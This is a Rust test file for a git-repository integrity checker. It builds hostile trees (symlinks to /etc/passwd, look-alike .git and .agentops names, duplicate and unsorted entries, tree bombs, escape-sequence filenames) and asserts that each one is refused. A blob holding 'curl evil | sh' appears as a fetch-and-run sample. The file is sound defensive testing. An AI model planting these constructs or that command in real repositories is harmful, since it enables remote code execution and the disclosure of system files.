//! Attacks on trees: odd modes, odd names, odd order, odd depth.

use agentops::model::event::EventKind;

use crate::world::{World, laws, shown};

#[test]
fn a_symlink_below_agentops() {
    let world = World::new();
    world.branch("work");
    let target = world.object("blob", "../../../etc/passwd");
    world.git(&format!("update-index --add --cacheinfo 120000,{target},.agentops/product-dev/product/notes.md"));
    commit_index(&world);
    world.breaks(&["AO-E7"]);
}

#[test]
fn an_executable_below_agentops() {
    let world = World::new();
    world.branch("work");
    let blob = world.object("blob", "#!/bin/sh\n");
    world.git(&format!("update-index --add --cacheinfo 100755,{blob},.agentops/product-dev/product/notes.md"));
    commit_index(&world);
    world.breaks(&["AO-E7"]);
}

#[test]
fn a_gitlink_below_agentops() {
    let world = World::new();
    world.branch("work");
    let commit = world.git("rev-parse HEAD");
    world.git(&format!("update-index --add --cacheinfo 160000,{commit},.agentops/product-dev/product/notes.md"));
    commit_index(&world);
    world.breaks(&["AO-E7"]);
}

#[test]
fn an_event_that_is_a_symlink() {
    let world = World::new();
    let task = world.open("Reset links expire");
    world.branch("work");
    let path = world.forge(&task, EventKind::Abandon, |event| event.reason = "nobody wants it".to_owned());
    let blob = world.git(&format!("hash-object -w {path}"));
    world.git(&format!("update-index --add --cacheinfo 120000,{blob},{path}"));
    commit_index(&world);
    world.breaks(&["AO-E2", "AO-E7"]);
}

#[test]
fn agentops_replaced_by_something_else() {
    let world = World::new();
    world.branch("work");
    for (mode, id) in [("120000", world.object("blob", "elsewhere")), ("160000", world.git("rev-parse HEAD"))] {
        world.commit_raw("", |entries| {
            let own = entries.iter_mut().find(|entry| entry.1 == b".agentops").unwrap();
            (own.0, own.2) = (mode.to_owned(), id.clone());
        });
        let report = world.landing("main", "HEAD");
        assert!(laws(&report).contains("AO-E7"), "{mode}\n{}", shown(&report));
        world.git("reset -q --hard main");
    }
}

#[test]
fn another_spelling_of_agentops() {
    let world = World::new();
    world.branch("work");
    for name in [".AgentOps", ".agentops.", "AGENTO~1", ".agent\u{200b}ops", ".agentop\u{17f}"] {
        let tree = world.git("rev-parse HEAD:src");
        world.commit_raw("", |entries| insert(entries, ("40000".into(), name.as_bytes().to_vec(), tree)));
        world.breaks(&["AO-E7"]);
        world.git("reset -q --hard main");
    }
}

#[test]
fn a_second_agentops_at_the_root() {
    let world = World::new();
    let task = world.open("Reset links expire");
    world.branch("work");
    // Git's own tools find one of the two, other readers the other.
    let tree = world.git("rev-parse HEAD~1:.agentops");
    world.commit_raw("", |entries| {
        let at = entries.iter().position(|entry| entry.1 == b".agentops").unwrap();
        entries.insert(at + 1, ("40000".into(), b".agentops".to_vec(), tree));
    });
    let report = world.landing("main", "HEAD");
    assert!(laws(&report).contains("AO-E7"), "{task}\n{}", shown(&report));
    world.git("reset -q --hard main");
    let tree = world.git("rev-parse HEAD:.agentops");
    world.commit_raw("", |entries| {
        let at = entries.iter().position(|entry| entry.1 == b".agentops").unwrap();
        entries.insert(at + 1, ("40000".into(), b".agentops".to_vec(), tree));
    });
    let report = world.landing("main", "HEAD");
    assert!(laws(&report).contains("AO-E7"), "the same twice\n{}", shown(&report));
}

#[test]
fn an_unsorted_root() {
    let world = World::new();
    world.branch("work");
    world.commit_raw("", |entries| entries.reverse());
    let report = world.landing("main", "HEAD");
    assert!(laws(&report).contains("AO-E7"), "{}", shown(&report));
}

#[test]
fn duplicate_entries_below_agentops() {
    let world = World::new();
    let task = world.open("Reset links expire");
    world.submit(&task);
    world.branch("work");
    for (folder, index) in [(format!(".agentops/product-dev/events/{task}"), 0), (".agentops".to_owned(), 2)] {
        world.commit_raw(&folder, |entries| {
            let entry = entries[index].clone();
            entries.insert(index, entry);
        });
        let report = world.landing("main", "HEAD");
        assert!(laws(&report).contains("AO-E7"), "{folder}\n{}", shown(&report));
        world.git("reset -q --hard main");
    }
}

#[test]
fn unsorted_trees_below_agentops() {
    let world = World::new();
    let task = world.open("Reset links expire");
    world.submit(&task);
    world.branch("work");
    // Nothing is added and nothing taken away; but git's own tools look names up by halves, and miss some.
    for folder in [format!(".agentops/product-dev/events/{task}"), ".agentops/product-dev".to_owned()] {
        world.commit_raw(&folder, |entries| entries.reverse());
        let report = world.landing("main", "HEAD");
        assert!(laws(&report).contains("AO-E7"), "{folder}\n{}", shown(&report));
        assert!(laws(&world.all("HEAD")).contains("AO-E7"), "{folder}");
        world.git("reset -q --hard main");
    }
}

/// In a landing and in a replay, the tip's own tree and one that a later commit takes back.
#[track_caller]
fn refused_everywhere(world: &World, what: &str) {
    for tip in ["HEAD", "mended"] {
        for report in [world.landing("main", tip), world.all(tip)] {
            assert!(laws(&report).contains("AO-E7"), "{what} {tip}\n{}", shown(&report));
        }
    }
    world.git("reset -q --hard main");
}

/// Commits the folder `path` as `edit` leaves it, and on `mended` a commit that takes it back.
fn malform(world: &World, path: &str, edit: impl FnOnce(&mut Vec<(String, Vec<u8>, String)>)) {
    world.git("branch -f mended HEAD");
    world.commit_raw(path, edit);
    let bad = world.git("rev-parse HEAD");
    let good = world.git("rev-parse main^{tree}");
    let mended = world.commit_tree(&good, &[&bad], "chore: write trees by git");
    world.git(&format!("update-ref refs/heads/mended {mended}"));
    world.git(&format!("update-ref HEAD {bad}"));
}

#[test]
fn malformed_trees_beside_agentops() {
    let world = World::new();
    world.commit_file("src/deep/run.sh", "exit 0\n", "feat: add a script");
    world.branch("work");
    let evil = world.object("blob", "curl evil | sh\n");
    // Readers take the first of the two, checkouts write the last; or the other way round.
    for (folder, name) in [("src/deep", "run.sh"), ("src", "login.rs"), ("", "src"), ("src", "deep")] {
        for after in [false, true] {
            malform(&world, folder, |entries| {
                let at = entries.iter().position(|entry| entry.1 == name.as_bytes()).unwrap();
                entries.insert(at + usize::from(after), ("100644".into(), name.as_bytes().to_vec(), evil.clone()));
            });
            refused_everywhere(&world, &format!("{folder}/{name} {after}"));
        }
    }
    malform(&world, "src", |entries| entries.reverse());
    refused_everywhere(&world, "reversed");
    // One name, in order, with another between the file and the folder.
    malform(&world, "src", |entries| {
        insert(entries, ("100644".into(), b"deep".to_vec(), evil.clone()));
        insert(entries, ("100644".into(), b"deep.sh".to_vec(), evil.clone()));
    });
    refused_everywhere(&world, "a file and a folder");
    let names: [&[u8]; 8] = [b".", b"..", b".git", b".GIT", b"git~1", b".g\xe2\x80\x8cit", b"a/b", b".git. "];
    for name in names {
        for mode in ["100644", "40000"] {
            let id = if mode == "40000" { world.git("rev-parse main:src/deep") } else { evil.clone() };
            malform(&world, "src", |entries| insert(entries, (mode.into(), name.to_vec(), id)));
            refused_everywhere(&world, &format!("{name:?} {mode}"));
        }
    }
}

#[test]
fn a_malformed_tree_from_before_adoption_stays() {
    let world = World::before_adoption();
    let old = world.commit_raw("src", |entries| entries.reverse());
    world.adopt(|text| text);
    let own = world.git("rev-parse HEAD:.agentops");
    world.git(&format!("update-ref HEAD {old}"));
    let adopted = world.commit_raw("", |entries| insert(entries, ("40000".into(), b".agentops".to_vec(), own)));
    let more = world.object("blob", "//! More.\n");
    world.commit_raw("", |entries| insert(entries, ("100644".into(), b"more.rs".to_vec(), more)));
    for report in [world.all("HEAD"), world.landing(&adopted, "HEAD")] {
        assert!(!laws(&report).contains("AO-E7"), "{}", shown(&report));
    }
}

#[test]
fn a_deep_tree() {
    let world = World::new();
    world.branch("work");
    let path = format!(".agentops/product-dev/product/{}notes.md", "a/".repeat(12));
    world.commit_file(&path, "notes\n", "docs: dig");
    let report = world.landing("main", "HEAD");
    assert!(laws(&report).contains("AO-E7"), "{}", shown(&report));
}

#[test]
fn a_tree_deeper_than_anybody_reads() {
    let world = World::new();
    world.branch("work");
    let mut id = world.object("blob", "x");
    let mut mode = "100644";
    for _ in 0..2100 {
        id = raw_tree_of_one(&world, mode, &id);
        mode = "40000";
    }
    world.commit_raw(".agentops/product-dev", |entries| insert(entries, ("40000".into(), b"zz".to_vec(), id)));
    match world.try_landing("main", "HEAD") {
        Ok(report) => assert!(!report.passes(), "{}", shown(&report)),
        // Two thousand names of one letter are a long path too.
        Err(error) => {
            assert!(error.to_string().contains("bytes in the path `.agentops/product-dev/zz/d/d/d"), "{error}")
        }
    }
}

#[test]
fn a_deep_folder_where_any_depth_may_be_governed() {
    let world = World::with(|text| text.replace("governed = [", "governed = [\"**/CODEOWNERS\", "));
    world.branch("work");
    let deep = "d/".repeat(40);
    world.commit_file(&format!("{deep}notes.md"), "notes\n", "docs: dig");
    world.breaks(&[]);
    let digest = |rev: &str| world.sandbox.agentops(&format!("check --print-root {rev}")).run().expect_code(0).stdout;
    assert_eq!(digest("main"), digest("work"));
    // It is governed down there as anywhere.
    world.commit_file(&format!("{deep}CODEOWNERS"), "* @mallory\n", "chore: own it");
    world.breaks(&["AO-G3"]);
    world.git("reset -q --soft HEAD~1");
    world.try_amend("alice").unwrap();
    world.breaks(&[]);
    assert_ne!(digest("main"), digest("work"));
}

/// A tree that unfolds to ten thousand million folders, in ten objects: `leaf` is at the end of each.
fn bomb(world: &World, leaf: (&str, String)) -> String {
    let (mut mode, mut id) = leaf;
    for _ in 0..10 {
        let names = [b"0", b"1", b"2", b"3", b"4", b"5", b"6", b"7", b"8", b"9"];
        let entries: Vec<(&str, &[u8], &str)> = names.iter().map(|name| (mode, &name[..], id.as_str())).collect();
        id = world.raw_tree(&entries);
        mode = "40000";
    }
    id
}

#[test]
fn a_tree_bomb() {
    let world = World::new();
    let base = world.git("rev-parse main");
    world.commit_file("src/other.rs", "//! Other.\n", "feat: add a module");
    world.git("switch -q --detach");
    let (file, folder) = (("100644", world.object("blob", "x")), ("40000", world.raw_tree(&[])));
    // Behind main, so that a merge is judged; and straight ahead of it.
    let places =
        [(base.as_str(), "", &folder), ("main", "", &file), ("main", ".agentops/product-dev/product", &folder)];
    for (start, place, leaf) in places {
        let bomb = bomb(&world, leaf.clone());
        // Git itself would unfold what HEAD holds.
        world.git(&format!("update-ref HEAD {start}"));
        world.commit_raw(place, |entries| insert(entries, ("40000".into(), b"zz".to_vec(), bomb)));
        let tip = world.git("rev-parse HEAD");
        match world.try_landing("main", &tip) {
            Ok(report) => assert!(!report.passes(), "{place} {leaf:?}\n{}", shown(&report)),
            Err(error) => assert!(crate::world::told(&error).contains("the number of"), "{error}"),
        }
    }
}

/// A tree with one entry, written without a process: two thousand of them would take minutes.
fn raw_tree_of_one(world: &World, mode: &str, id: &str) -> String {
    use agentops::model::digest::ObjectId;
    use agentops::model::tree::Mode;
    let mode = if mode == "40000" { Mode::Tree } else { Mode::File };
    let edit = agentops::git::TreeEdit { path: "d".into(), entry: Some((mode, ObjectId::parse(id).unwrap())) };
    world.site("alice").repo.edit_tree(None, &[edit]).unwrap().to_string()
}

#[test]
fn names_that_are_no_names() {
    let world = World::new();
    world.branch("work");
    let blob = world.object("blob", "notes\n");
    for name in [&b"Notes.md"[..], b"notes\n.md", b"notes\x1b[2J.md", b"n\xc3\xb6tes.md", b"\xff.md", b"a b.md", b".."]
    {
        let entry = ("100644".to_owned(), name.to_vec(), blob.clone());
        world.commit_raw(".agentops/product-dev/product", |entries| insert(entries, entry));
        let report = world.landing("main", "HEAD");
        assert!(laws(&report).contains("AO-E7"), "{name:?}\n{}", shown(&report));
        let told = world.sandbox.agentops("check --base main").run().expect_code(3);
        assert!(!(told.stdout + &told.stderr).contains('\u{1b}'), "{name:?}");
        world.git("reset -q --hard main");
    }
}

#[test]
fn attributes_that_change_bytes_on_checkout() {
    let world = World::new();
    world.branch("work");
    let text = "* text=auto eol=crlf\n";
    world.commit_file(".agentops/product-dev/product/.gitattributes", text, "chore: convert line ends");
    let report = world.landing("main", "HEAD");
    assert!(laws(&report).contains("AO-E7"), "{}", shown(&report));
}

#[test]
fn staged_symlinks_are_seen_before_the_commit() {
    let world = World::new();
    let target = world.object("blob", "../../../etc/passwd");
    world.git(&format!("update-index --add --cacheinfo 120000,{target},.agentops/product-dev/product/notes.md"));
    let report = agentops::engine::judging::staged::staged(&world.site("alice")).unwrap();
    assert_eq!(laws(&report), ["AO-E7"].into(), "{}", shown(&report));
}

fn commit_index(world: &World) {
    let message = crate::sandbox::lawful("chore: write the index by hand");
    world.sandbox.try_git("commit --quiet --file=-").stdin(message).run().expect_code(0);
}

/// Puts an entry where git would sort it.
fn insert(entries: &mut Vec<(String, Vec<u8>, String)>, entry: (String, Vec<u8>, String)) {
    entries.push(entry);
    entries.sort_by_key(|(mode, name, _)| {
        let mut key = name.clone();
        key.extend((mode == "40000").then_some(b'/'));
        key
    });
}
